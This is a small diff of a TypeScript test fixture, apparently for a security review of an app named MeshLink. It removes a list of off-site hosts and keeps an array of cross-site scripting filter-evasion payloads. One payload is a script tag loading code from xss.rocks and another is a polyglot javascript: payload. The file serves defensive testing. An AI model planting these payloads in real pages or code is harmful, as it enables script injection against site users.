@@ -6,8 +6,6 @@
 // security review of MeshLink found in asset descriptions. Every off-site URL here names a host
 // outside MeshLink, so a journey can tell any fetch of one.
 
-export const OFF_SITE_HOSTS = ["xss.rocks", "evil.example"] as const;
-
 export const XSS_FILTER_EVASION = [
   `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`,
   `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
